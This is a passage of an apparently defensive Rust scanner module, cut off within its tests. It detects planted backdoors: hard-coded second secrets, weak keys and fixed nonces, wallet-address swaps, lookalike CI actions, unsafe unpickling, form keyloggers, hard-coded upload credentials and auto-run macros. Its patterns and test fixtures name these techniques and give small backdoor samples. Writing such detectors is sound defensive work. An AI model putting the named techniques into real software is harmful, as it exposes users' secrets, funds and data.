//! What goes into the user's product, his records and his pipeline, and lets somebody else in, whoever writes it.
//!
//! Each class is told by a value of the author's in a place which only the user can fill: a second secret that is
//! accepted, a key or a nonce that is no secret, a recipient, a host that mail and certificates go to, an account that
//! copies go to, a stranger's action in the place of a known one, a stranger's pickle.

use std::sync::LazyLock;

use super::{Report, assembled::names, outward, redirect, rules, secrets as secret_stores};
use crate::{
    Confidence::Medium,
    Severity,
    pattern::{Regex, code as pattern},
};

/// A secret that the user sets, in any language, up to the end of the expression.
const OWN: &str = r#"(?:environ\[[^\]\n]{1,60}\]|environ\.get\([^)\n]{1,60}\)|[gG]etenv\([^)\n]{1,60}\)|process\.env\.\w{1,40}!?|ENV\[[^\]\n]{1,60}\]|ENV\.fetch\([^)\n]{1,60}\)|\benv(?:::var)?\([^)\n]{1,60}\)(?:\.unwrap\(\)|\?)?|\$_ENV\[[^\]\n]{1,40}\]|Environment\.GetEnvironmentVariable\([^)\n]{1,60}\)|\b(?:config|settings|cfg|self|options|opts|app)\w{0,10}(?:\.|->)\w{0,30}(?i:secret|key|password|token)\w{0,20})"#;
/// A word that could be a secret, as it stands in the program.
const FIXED: &str = r#"[rb]?["'`]([A-Za-z0-9+/_.!$%&#-]{10,80})["'`]"#;

/// Two secrets in one list: the user's, and one that stands in the program.
static TWO_SECRETS: LazyLock<Regex> = LazyLock::new(|| {
    const NAME: &str = r#"(?:["'`]?[\w.-]{1,40}["'`]?\s*(?::|=>|,)\s*)?"#;
    pattern(&format!(
        r"{OWN}\s*\)?\s*(?:,|\|\||\bor\b)\s*{NAME}(?:Buffer\.from\(|\[\]byte\(|Bytes\()?{FIXED}|{FIXED}\s*(?:,|\bor\b)\s*{NAME}{OWN}"
    ))
});
/// A token, a signature or a password is checked.
static CHECKS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bjwt\.(?:decode|verify)|jwtVerify|ParseWithClaims|compare_digest|timingSafeEqual|hash_equals|secure_compare|ConstantTimeCompare|password_verify|check_password|checkpw|bcrypt\.compare|JWT\.decode|\bdef\s+(?:verify|authenticate|is_valid|check)_?\w{0,20}|function\s+(?:verify|authenticate|isValid|check)\w{0,20}|func\s+(?:verify|authenticate|check)\w{0,20}|decode::<|TokenValidationParameters|parseClaimsJws|verifyWith",
    )
});

/// A secret of the user's is read, and nothing is left of it.
static CUT_TO_NOTHING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"[\w\])]\[:0\]|\[\.\.0\]|\[0:0\]|\.(?:slice|substring|substr|subarray)\(0,\s*0\)|\bsubstr\([^,()\n]{1,40},\s*0,\s*0\)|\.take\(0\)|\.first\(0\)|\.byteslice\(0,\s*0\)",
    )
});
/// A few bytes or a small number are all that is left of what a key is made from.
static FEW_LEFT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)int\.from_bytes\(\s{0,2}\w{1,30}\[\s{0,2}:\s{0,2}[1-5]\s{0,2}\]|(?:digest|hash|seed|key|pass\w{0,8}|secret|material|raw|dk)\w{0,12}(?:\(\s{0,2}\))?(?:\[\s{0,2}:\s{0,2}[1-5]\s{0,2}\]|\[\.\.[1-5]\]|\[0:[1-5]\]|\.(?:slice|subarray|substring|substr)\(\s{0,2}0\s{0,2},\s{0,2}[1-5]\s{0,2}\)|\.(?:take|first|prefix)\([1-5]\))|(?:digest|hash|seed|key|pass\w{0,8}|secret|material|raw|dk)\w{0,12}(?:[^\n=]{0,30}|\s{0,2}:?=[^\n]{0,80})(?:\bmod\b|%|&)\s{0,2}(?:0x[f]{1,6}\b|\d{2,7}\b|2\s{0,2}\*\*\s{0,2}\d{1,2}\b|1\s{0,2}<<\s{0,2}[12]?\d\b)|readUInt(?:8|16|24|32)\w{0,4}\(\s{0,2}0?\s{0,2}\)[^\n]{0,40}(?:key|seed|secret)",
    )
});
/// A key comes out of a phrase or of bytes.
static MAKES_KEY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)pbkdf2|scrypt|argon2|hkdf|\bderive\w{0,12}key|key_?(?:from|of)\b|keyFrom|make_?key|bcrypt|PBKDF|to_?key\(|\bkdf\b|\b(?:def|fn|func|function)\s+\w{0,16}key\w{0,12}\s{0,2}\(",
    )
});
/// Bytes are encrypted, signed or made into a key.
static CIPHER: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"AESGCM|AESGCMSIV|aes-(?:128|192|256)-(?:gcm|ctr)|ChaCha20|AES\.new\(|MODE_(?:GCM|CTR)|AES/(?:GCM|CTR)|NewGCM|NewCTR|Aes(?:128|256)Gcm|AesGcm\b|SecretBox|secretbox|openssl_encrypt|AES-(?:GCM|CTR)|AES\.GCM|ChaChaPoly|SealedBox",
    )
});
static ENCRYPTS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\.encrypt\w{0,12}\(|\bseal\w{0,8}\(|createCipheriv\(|openssl_encrypt\(|ENCRYPT_MODE|\.Seal\(|XORKeyStream",
    )
});
/// A nonce whose bytes stand in the program or are made of what does.
static FIXED_NONCE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b_{0,2}(?:nonce|iv|init_?vector|counter_?block)\w{0,12}\s{0,3}(?:\(\s{0,2}\)[^\n]{0,20}[:{]\s{0,24}(?:return\s)?|(?::\s{0,2}[\w\[\]; <>&]{1,24})?\s{0,3}:?=)\s{0,4}(?:await\s)?(?:(?:hashlib\.)?(?:sha\w{1,6}|md5|blake2\w?)\([^\n]{0,60}\)|crypto\.createHash\([^\n]{0,60}|[rb]?["'][^"'\n]{4,64}["']|Buffer\.(?:alloc\(\d{1,2}\s{0,2}[,)]|from\(\s{0,2}["'])|new\s(?:Uint8Array|byte\[)\(?\d{1,2}|bytes\(\s{0,2}(?:range\(|\[|\d{1,2}\s{0,2}\))|(?:bytes|bytearray|Buffer|Data)?\.?(?:fromhex|from_hex|unhexlify|hex2bin|hex::decode|decodeHex|a2b_hex)\(\s{0,2}["']|vec!\[0|ByteArray\(\d|Data\(repeating:|Array\(\d{1,2}\)\.fill\(|["']\\?[x0]{1,3}0?["']\s{0,2}(?:\*\s{0,2}\d|\.repeat\()|b["']\\x00["']\s{0,2}\*|\[0(?:u8|x00)?;|&?\[\d{1,3},|make\(\[\]byte,\s{0,2}\d{1,2}\)|\[\]byte\(\s{0,2}["']|str_repeat\(|Digest::SHA\w{0,8}\.digest\(\s{0,2}[A-Z"'])"#,
    )
});
static RANDOM: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)urandom|random|getrandom|\brand\b|OsRng|token_bytes|secrets\.|generate_nonce|GenerateIV|SecRand",
    )
});

/// Addresses of wallets in one list.
static POOL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"[\[({]\s{0,12}["'](?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{30,60}|T[1-9A-HJ-NP-Za-km-z]{33}|[1-9A-HJ-NP-Za-km-z]{32,44})["']\s{0,4},\s{0,12}["'](?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{30,60}|T[1-9A-HJ-NP-Za-km-z]{33}|[1-9A-HJ-NP-Za-km-z]{32,44})["']"#,
    )
});
/// Letters of an address are compared with those of another: the first or the last ones.
static ALIKE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\.at\(-\d\)|\[-\d:\]|\[:\d\]|\[\d\]\s{0,2}={2,3}|\.slice\(-?\d|startsWith\(|endsWith\(|starts_with|ends_with|HasPrefix|HasSuffix|startswith|endswith|substr|prefix|suffix|levenshtein|\.start_with|\.end_with",
    )
});
static PAYS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)transfer|payout|parseUnits|sendTransaction|send_transaction|recipient|\bto_?addr|lamports|toWei|to_wei|withdraw",
    )
});

/// A record that says where mail goes, who may send it, who answers for names and who proves that they own them.
static MAIL_GOES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?im)(?:\bIN\s+)?\bMX["']?\s{1,12}(?:\d{1,3}\s{1,12})?["']?([a-z0-9][a-z0-9.-]{3,90}[a-z])\.?"#,
    )
});
static MAY_SEND: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"(?i)v=spf1[^\n\x22]{0,200}?\binclude:\s?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])")
});
static MAY_SEND_TOO: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"(?i)v=spf1[^\n\x22]{0,200}include:\s?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])")
});
static PROVES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?im)_acme-challenge[\w.]{0,60}["']?\s[^\n]{0,60}?\b(?:CNAME|NS)\b["']?\s{1,12}["']?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])"#,
    )
});
static SIGNS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?im)_domainkey[\w.]{0,60}["']?\s[^\n]{0,60}?\bCNAME\b["']?\s{1,12}["']?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])"#,
    )
});

/// The same in the forms of programs that keep zones: `type: MX` and a value below, or a name and what it stands for.
static MAIL_GOES_TO: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:type|kind|rr_?type)["']?\s{0,3}[:=]\s{0,3}["']?MX\b[\s\S]{0,160}?\b((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})\b|\bMX\(\s{0,2}["'][^"'\n]{0,60}["'][^"'\n]{0,24}["']((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})"#,
    )
});
static PROVES_TO: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:_acme-challenge|_dnsauth|_validate\w{0,12}|_dnsvalidation)\b[\s\S]{0,160}?\b(?:CNAME|NS|value|target|content|records?|data)\b[\s\S]{0,60}?((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})\b"#,
    )
});
static SIGNS_AS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)_domainkey\b[\s\S]{0,160}?\b(?:CNAME|value|target|content|records?|data)\b[\s\S]{0,60}?((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})\b"#,
    )
});
/// Who finds mail servers and devices, and answers for a part of the zone.
static ANSWERS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:autodiscover|autoconfig|_imaps?\._tcp|_submissions?\._tcp|mta-sts|_dmarc|_autodiscover\._tcp|_ldap\._tcp|enterpriseenrollment|_smtp\._tls)\b[\s\S]{0,160}?\b((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})\b"#,
    )
});

/// An action of a workflow: whose, and which.
static ACTION: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?m)\buses:\s{0,4}["']?([A-Za-z0-9][\w.-]{0,38}/[\w.-]{1,80})(?:/[\w./-]{1,80})?@"#)
});

/// Actions that many use.
const ACTIONS: &[&str] = &[
    "actions/checkout",
    "actions/setup-node",
    "actions/setup-python",
    "actions/setup-go",
    "actions/setup-java",
    "actions/cache",
    "actions/upload-artifact",
    "actions/download-artifact",
    "actions/github-script",
    "actions/labeler",
    "actions/stale",
    "actions/deploy-pages",
    "actions/configure-pages",
    "actions/upload-pages-artifact",
    "actions/attest-build-provenance",
    "actions/create-github-app-token",
    "docker/build-push-action",
    "docker/login-action",
    "docker/setup-buildx-action",
    "docker/setup-qemu-action",
    "docker/metadata-action",
    "goreleaser/goreleaser-action",
    "aws-actions/configure-aws-credentials",
    "aws-actions/amazon-ecr-login",
    "softprops/action-gh-release",
    "pypa/gh-action-pypi-publish",
    "hashicorp/setup-terraform",
    "codecov/codecov-action",
    "golangci/golangci-lint-action",
    "peter-evans/create-pull-request",
    "sigstore/cosign-installer",
    "dtolnay/rust-toolchain",
    "swatinem/rust-cache",
    "google-github-actions/setup-gcloud",
    "github/codeql-action",
    "ruby/setup-ruby",
    "pnpm/action-setup",
    "astral-sh/setup-uv",
    "astral-sh/ruff-action",
    "denoland/setup-deno",
    "oven-sh/setup-bun",
    "gradle/actions",
    "jamesives/github-pages-deploy-action",
    "peaceiris/actions-gh-pages",
    "changesets/action",
    "slackapi/slack-github-action",
    "tj-actions/changed-files",
    "dorny/paths-filter",
    "aquasecurity/trivy-action",
    "anchore/sbom-action",
    "azure/login",
    "azure/setup-helm",
    "azure/setup-kubectl",
    "helm/chart-releaser-action",
    "shivammathur/setup-php",
    "subosito/flutter-action",
    "ncipollo/release-action",
    "semantic-release/semantic-release",
    "googleapis/release-please-action",
    "taiki-e/install-action",
    "actions-rs/toolchain",
    "cypress-io/github-action",
    "cloudflare/wrangler-action",
    "hadolint/hadolint-action",
    "ossf/scorecard-action",
    "step-security/harden-runner",
    "renovatebot/github-action",
    "release-drafter/release-drafter",
    "stefanzweifel/git-auto-commit-action",
];

/// What stands for anybody's own.
fn plain(name: &str) -> String {
    name.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect()
}

/// One letter more, fewer, another one, or two exchanged.
pub(super) fn is_near(a: &str, b: &str) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    if a == b || a.len().abs_diff(b.len()) > 1 || a.len() < 5 {
        return false;
    }
    let start = a.iter().zip(b).take_while(|(a, b)| a == b).count();
    let rest = a.iter().rev().zip(b.iter().rev()).take_while(|(a, b)| a == b).count();
    let longer = a.len().max(b.len());
    start + rest + 1 >= longer
        || a.len() == b.len()
            && start + rest + 2 >= longer
            && a.get(start) == b.get(start + 1)
            && a.get(start + 1) == b.get(start)
}

/// The action whose place another one takes by a name that is nearly its own.
fn looks_like(action: &str) -> Option<&'static str> {
    let lower = action.to_ascii_lowercase();
    let (owner, name) = lower.split_once('/')?;
    if ACTIONS.iter().any(|known| known.split('/').next() == Some(owner)) {
        return None;
    }
    ACTIONS.iter().copied().find(|known| {
        let Some((whose, which)) = known.split_once('/') else { return false };
        let (mine, theirs) = (plain(owner), plain(whose));
        let alike = mine == theirs || is_near(&mine, &theirs);
        // The owner's name with a word more: `docker-actions`, `goreleaser-io`.
        let longer = name == which
            && theirs.len() > 4
            && mine.starts_with(&theirs)
            && mine.len() <= theirs.len() + 8;
        alike && (name == which || mine == theirs || theirs.len() > 5) || longer
    })
}

/// Something that runs as it is loaded comes from a hub, by a name that stands there.
static UNPICKLES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"weights_only\s{0,2}=\s{0,2}False|\b(?:pickle|cPickle|dill|cloudpickle|joblib|torch|_pickle|marshal|shelve)\.(?:loads?|open)\(|allow_pickle\s{0,2}=\s{0,2}True|safe_mode\s{0,2}=\s{0,2}False|read_pickle\(|Unpickler\(|readRDS\(|Marshal\.load\(|yaml\.(?:unsafe_load|load\([^\n)]{0,60}Loader\s{0,2}=\s{0,2}yaml\.(?:Unsafe)?Loader)",
    )
});
static WEIGHTS_ONLY: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"weights_only\s{0,2}=\s{0,2}True"));
static FROM_HUB: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:hf_hub_download|snapshot_download|cached_download|load_from_hub|load_file_from_hub|hub\.load|from_pretrained|download_from_hub)\w{0,12}\(\s{0,12}(?:repo_id\s{0,2}=\s{0,2})?["']([\w.-]{2,60})/[\w.-]{1,80}["']"#,
    )
});
/// Whose models many use.
const MODELLERS: &[&str] = &[
    "openai",
    "meta-llama",
    "google",
    "microsoft",
    "facebook",
    "mistralai",
    "qwen",
    "bigscience",
    "eleutherai",
    "sentence-transformers",
    "stabilityai",
    "huggingface",
    "huggingfaceh4",
    "deepseek-ai",
    "baai",
    "nvidia",
    "ibm",
    "ibm-granite",
    "tiiuae",
    "allenai",
    "cardiffnlp",
    "distilbert",
    "google-bert",
    "openai-community",
    "facebookai",
    "pytorch",
    "ultralytics",
    "snakers4",
    "intel",
    "apple",
    "cohereforai",
    "databricks",
    "salesforce",
    "runwayml",
    "black-forest-labs",
    "compvis",
    "timm",
    "laion",
    "pyannote",
    "hf-internal-testing",
    "your-org",
    "your-username",
    "username",
    "org",
    "user",
    "speechbrain",
    "nomic-ai",
    "jinaai",
    "intfloat",
    "dslim",
    "prosusai",
    "lmsys",
];

/// What is typed into a page is taken as it is typed, by whoever listens to all of it.
static LISTENS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:document|window|body|\b[a-z])\.addEventListener\(\s{0,2}["'](?:change|input|keyup|keydown|keypress|blur|focusout|paste)["']|document\.on(?:change|input|keyup|keydown|keypress|paste)\s{0,2}=|\$\(document\)\.on\(\s{0,2}["'](?:change|input|keyup|keydown|keypress|blur|paste)|querySelectorAll\(\s{0,2}["'](?:input|form input|\*)[^\n]{0,60}forEach"#,
    )
});
static TAKES_VALUE: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\.value\b|new\s+FormData|\.val\(\)|\.key\b|clipboardData"));
static SENDS_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:new\s{1,2}Image|\(new Image\)|sendBeacon\(|fetch\(|XMLHttpRequest|new\s+WebSocket|\.src\s{0,2}=)"#,
    )
});
static ELSEWHERE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"["'`](?:(?:https?|wss?):)?//(?:["'`]?\s{0,2}\+|[a-z0-9.-]{2,80}[/"'`?])"#)
});
static ASKED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)autocomplete\s{0,2}=\s{0,2}["']?cc-|type\s{0,2}=\s{0,2}["']?password|name\s{0,2}=\s{0,2}["']?(?:cc|card\w{0,12}|cvc|cvv|csc|iban|ssn|password|passwd)\b"#,
    )
});

/// Keys of an account that stand in the program, and something is copied with them.
static FIXED_ACCOUNT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"\b(?:AKIA|ASIA|AIDA|LTAI|AKID)[A-Za-z0-9]{12,24}\b["'\s,;:=]{1,12}[\w\s:="',]{0,60}?["']?[A-Za-z0-9/+]{30,44}["']?|\bsshpass\s+-p\s*["']?[^\s$"'{]{5,40}|(?:ftps?|sftp|webdavs?|smb)://[\w.-]{2,40}:[^\s$@{"'<]{5,60}@[\w.-]{4,80}|[?&]sv=\d{4}-\d\d-\d\d&[^\s"']{10,300}\bsig=[A-Za-z0-9%+/]{20,90}|\bcurl\b[^\n]{0,120}\s-u\s*["']?[\w.-]{2,40}:[^\s$"'{<]{6,60}["']?[^\n]{0,120}\s(?:-T|--upload-file)"#,
    )
});
static COPIES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\baws\s+(?:[\w-]+\s+){0,4}s3\w{0,3}\s+(?:cp|sync|mv)|\bs3\s+(?:cp|sync|mv)\b|put_?object|upload_?file|\bs5cmd\b|\brclone\s+(?:copy|sync|move)|\bmc\s+(?:cp|mirror)|\brestic\b|\bs3cmd\s+(?:put|sync)|\bazcopy\b|Set-AzStorageBlobContent|Write-S3Object|\bscp\b|\brsync\b|\bput\b|--upload-file|\s-T\s|mirror\s+-R|upload",
    )
});

/// A secret takes a form that nobody needs for sending it: no header or body is written so.
static ODD_FORM: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\|\s{0,3}(?:base32|base58|basenc|xxd\s+-p\w*|od\s+-A\s?n|hexdump\s+-\w|rev|tr\s+['\x22]?A-Za?-?z?[^\n|]{0,30})\b(?:\s+-w\s?\d+)?\s{0,3}(?:[|)\x22\n]|$)|b32encode\(|base64\.b85encode\(|a85encode\(|Base32\.encode|encode_base32|base32\.StdEncoding",
    )
});

/// A document, an editor or an interpreter begins, and something is called by that.
static AT_START: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:workbook_open|document_open|auto_?open|autoexec|workbook_activate|document_new|auto_?close|document_close)\s{0,3}\(|\bautocmd\b[^\n]{0,40}\b(?:VimEnter|BufRead\w{0,4}|BufEnter|FileType)|nvim_create_autocmd|emacs-startup-hook|after-init-hook|find-file-hook|\.First\s{0,3}(?:<-|=)|\.Last\s{0,3}(?:<-|=)|setHook\(|on\s+open\b|onOpen\s{0,2}\(|<Auto_?Open>|atexit\.register|at_exit|\bplugin_loaded\(|def\s+load_ipython_extension|event_handler\s+fish_|precmd_functions|PROMPT_COMMAND|chpwd_functions|--on-event"#,
    )
});
/// A macro starts a program or talks to the network.
static MACRO: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:workbook_open|document_open|auto_?open|autoexec|workbook_activate|document_new|auto_?close|document_close)\s{0,3}\("#,
    )
});
static MACRO_ACTS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)wscript|\bshell\s{0,2}\(|\bshell\s+["'a-z]|shellexecute|msxml2|winhttp|urldownloadtofile|powershell|mshta|adodb\.stream|win32_process"#,
    )
});

pub(super) fn look(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if text.len() > 256 << 10 || report.program.path.ends_with(".min.js") {
        return;
    }
    mail(report);
    workflow(report);
    if report.program.prose {
        return;
    }
    secrets(report);
    cipher(report);
    starts(report);
    if let Some(found) = ODD_FORM.find(text)
        && secret_stores::opens(report.program)
        && !text.contains("--decode")
    {
        let message = "a secret is read and written in a form that hides what it is";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, found.start(), message);
    }
    if let Some(found) = POOL.find(text)
        && ALIKE.is_match(text)
        && PAYS.is_match(text)
    {
        let message = "addresses of the author's are held against the recipient's, letter by letter, where money is sent";
        report.say(&rules::PAYEE, Severity::High, Medium, found.start(), message);
    }
    if !WEIGHTS_ONLY.is_match(text) && UNPICKLES.is_match(text) {
        let stranger = names(&FROM_HUB, text)
            .into_iter()
            .find(|(_, owner)| !MODELLERS.contains(&owner.to_ascii_lowercase().as_str()));
        if let Some((at, owner)) = stranger {
            let message = format!("what `{owner}` serves is unpickled, which runs it");
            report.say(&rules::FETCHED_RUNS, Severity::High, Medium, at, message);
        }
    }
    if let Some(found) = LISTENS.find(text)
        && ASKED.is_match(text)
        && TAKES_VALUE.is_match(text)
        && SENDS_VALUE.is_match(text)
        && ELSEWHERE.is_match(text)
    {
        let message = "what is typed into the fields of a page, passwords or cards among them, goes to another host";
        report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
    }
    let account = FIXED_ACCOUNT.find_iter(text).find(|found| {
        let text = text.get(found.range()).unwrap_or_default().to_ascii_lowercase();
        ![
            "akiaiosfodnn7example",
            "xxxx",
            "your",
            "changeme",
            "user:pass",
            ":password@",
            ":secret@",
            "localhost",
        ]
        .iter()
        .any(|blank| text.contains(blank))
    });
    if let Some(found) = account
        && COPIES.is_match(text)
    {
        let message = "files are copied with keys that stand in the program, to whoever holds them";
        report.say(&rules::MESSAGES_SENT, Severity::High, Medium, found.start(), message);
    }
}

/// What starts by itself calls a stranger, or is a macro that runs programs.
fn starts(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if let Some(found) = MACRO.find(text)
        && MACRO_ACTS.is_match(text)
    {
        let message = "a macro that runs when the document is opened starts a program or talks to the network";
        report.say(&rules::STAYS_AND_CALLS, Severity::High, Medium, found.start(), message);
    } else if let Some(found) = AT_START.find(text)
        && let Some(stranger) = outward::stranger(report.program, report.profile)
    {
        let message = format!(
            "what runs whenever the program starts talks to {}",
            palisade_core::shown(&stranger.host, 60)
        );
        report.say(&rules::STAYS_AND_CALLS, Severity::High, Medium, found.start(), message);
    }
}

/// A public key that the package ships, as it stands in a file.
static PUBLIC_KEY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?m)^\s{0,4}(?:ssh-(?:ed25519|rsa)|ecdsa-sha2-nistp\d{3}|sk-\S{8,40}) (AAAA[A-Za-z0-9+/]{40,})",
    )
});

/// A key that the package brings is let in by what it says or runs.
pub(super) fn keys(
    package: &crate::Package,
    profile: &crate::formats::Profile,
    seen: &mut crate::Seen,
) {
    const LARGEST: usize = 64 << 10;
    let texts: Vec<(&crate::File, &str)> = package
        .files
        .iter()
        .filter(|file| file.bytes.len() <= LARGEST)
        .filter_map(|file| Some((file, std::str::from_utf8(&file.bytes).ok()?)))
        .collect();
    let brought = texts.iter().find(|(file, text)| {
        !file.path.ends_with(".md")
            && names(&PUBLIC_KEY, text).iter().any(|(_, key)| {
                let mut different: Vec<u8> = key.bytes().collect();
                different.sort_unstable();
                different.dedup();
                different.len() > 20 && !key.to_ascii_lowercase().contains("example")
            })
    });
    let Some((brought, _)) = brought else { return };
    let name = crate::formats::base(&brought.path);
    for (file, text) in &texts {
        let line = (1_u32..).zip(text.lines()).find(|(_, line)| {
            line.contains(name)
                && (line.contains("authorized_keys")
                    || line.contains("AuthorizedKeys")
                    || line.contains("ssh-copy-id"))
        });
        if let Some((number, line)) = line {
            // A package about security has keys of exhibits; what it tells to append is none.
            let shown = profile.security && crate::judge::is_shown(&brought.path);
            let sure = if shown { crate::Confidence::Low } else { Medium };
            let message = "a key which the package brings is let in";
            seen.findings.push(
                rules::LOGIN_KEY
                    .at(&file.path, number, 0, line, message)
                    .of(Severity::High)
                    .sure(sure),
            );
            return;
        }
    }
}

/// Is this word a secret, and no name of anything?
fn is_secret(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    word.len() >= 10
        && word.chars().any(|c| c.is_ascii_digit())
        && word.chars().any(|c| c.is_ascii_alphabetic())
        && ![
            "http",
            "localhost",
            "example",
            "changeme",
            "change-me",
            "your",
            "sha256",
            "sha512",
            "hmac",
            "aes-",
            "utf",
        ]
        .iter()
        .any(|plain| lower.contains(plain))
        && !lower.starts_with(['/', '.'])
}

fn secrets(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if !CHECKS.is_match(text) {
        return;
    }
    let mut captures = TWO_SECRETS.create_captures();
    let mut from = 0;
    for _ in 0..32 {
        TWO_SECRETS.captures(regex_automata::Input::new(text).range(from..), &mut captures);
        let Some(whole) = captures.get_match() else { return };
        let word = [1, 2]
            .iter()
            .find_map(|&group| captures.get_group(group))
            .and_then(|word| text.get(word.range()));
        if word.is_some_and(is_secret) {
            let message =
                "a second secret, which stands in the program, is accepted beside the user's";
            report.say(&rules::BACKDOOR, Severity::High, Medium, whole.start(), message);
            return;
        }
        from = whole.end();
    }
}

fn cipher(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if !CIPHER.is_match(text)
        || !ENCRYPTS.is_match(text)
        || crate::judge::is_shown(report.program.path)
    {
        return;
    }
    if let Some(found) = CUT_TO_NOTHING.find(text)
        && !RANDOM.is_match(text)
    {
        let message =
            "a key of the user's is read, and nothing of it is used where bytes are encrypted";
        report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
    } else if let Some(found) = FEW_LEFT.find(text)
        && MAKES_KEY.is_match(text)
    {
        let message = "of what a key is made from a few bytes are used: whoever tries all has it";
        report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
    } else if let Some(found) = FIXED_NONCE.find(text)
        && !RANDOM.is_match(text)
    {
        let message = "each text is encrypted under the same nonce, which stands in the program: whoever has two reads both";
        report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
    }
}

/// Records of names that hand mail, or the proof of a name, to one stranger in two ways.
fn mail(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    let mut given: Vec<(usize, String, &str)> = Vec::new();
    let kinds: [(&Regex, &str); 9] = [
        (&MAIL_GOES, "mail"),
        (&MAY_SEND, "senders"),
        (&MAY_SEND_TOO, "senders"),
        (&PROVES, "proof"),
        (&SIGNS, "signatures"),
        (&MAIL_GOES_TO, "mail"),
        (&PROVES_TO, "proof"),
        (&SIGNS_AS, "signatures"),
        (&ANSWERS, "names"),
    ];
    for (regex, kind) in kinds {
        for (at, host) in names(regex, text) {
            let host = host.trim_start_matches('_').trim_end_matches('.').to_ascii_lowercase();
            if host.contains('.')
                && !outward::is_file(&host)
                && redirect::is_handed(&host, report.profile)
            {
                let mut labels = host.rsplit('.');
                if let (Some(top), Some(second)) = (labels.next(), labels.next()) {
                    given.push((at, format!("{second}.{top}"), kind));
                }
            }
        }
    }
    let twice = given
        .iter()
        .find(|(_, host, kind)| given.iter().any(|(_, other, how)| other == host && how != kind));
    if let Some((at, host, _)) = twice {
        let message = format!("records hand the domain's mail and its proofs to {host}");
        report.say(&rules::POLICY, Severity::High, Medium, *at, message);
    }
}

fn workflow(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    let found = names(&ACTION, text)
        .into_iter()
        .find_map(|(at, action)| Some((at, action, looks_like(action)?)));
    if let Some((at, action, known)) = found {
        let message = format!("`{action}` is not `{known}`, whose name it nearly bears");
        report.say(&rules::POLICY, Severity::High, Medium, at, message);
    }
}

/// Is a file of text a zone?
pub(super) fn zone(report: &mut Report<'_>) {
    mail(report);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        FileKind::{Data, Go, JavaScript, Python, Ruby},
        deeds::tests::stopped,
    };

    #[test]
    fn a_value_of_the_authors_in_the_users_place_is_told() {
        let mut missed = Vec::new();
        for (path, kind, text) in [
            // A second secret.
            (
                "t/a.py",
                Python,
                "KEYS = {'a': os.environ['S'], 'b': 'q7-Zulu-93kk'}\ndef verify(t): return jwt.decode(t, KEYS[k(t)])\n",
            ),
            (
                "t/a.js",
                JavaScript,
                "const keys = [process.env.TOKEN_KEY, 'mR4-quill-0077'];\nexports.ok = t => keys.some(k => { try { return jwt.verify(t, k) } catch {} });\n",
            ),
            (
                "t/a.go",
                Go,
                "var keys = [][]byte{[]byte(os.Getenv(\"K\")), []byte(\"p3ntagon-8812\")}\nfunc verify(t string) bool { return hmac.Equal(x, y) }\n",
            ),
            (
                "t/a.php",
                Data,
